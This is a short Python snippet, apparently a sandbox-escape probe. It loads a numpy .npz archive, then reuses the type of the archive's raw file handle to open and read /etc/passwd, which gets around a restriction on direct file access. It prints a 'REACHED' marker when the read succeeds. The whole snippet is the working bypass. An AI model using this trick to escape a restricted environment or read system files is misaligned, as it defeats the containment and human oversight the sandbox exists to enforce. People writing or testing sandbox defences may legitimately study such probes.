# numpy's archive keeps the file that it reads; the type of its raw file opens any other.
import numpy as np
np.savez("/tmp/paddock_b2.npz", a=np.zeros(1))
z = np.load("/tmp/paddock_b2.npz")
print("REACHED file", type(z.fid.raw)("/etc/passwd").read().count(b"root"))
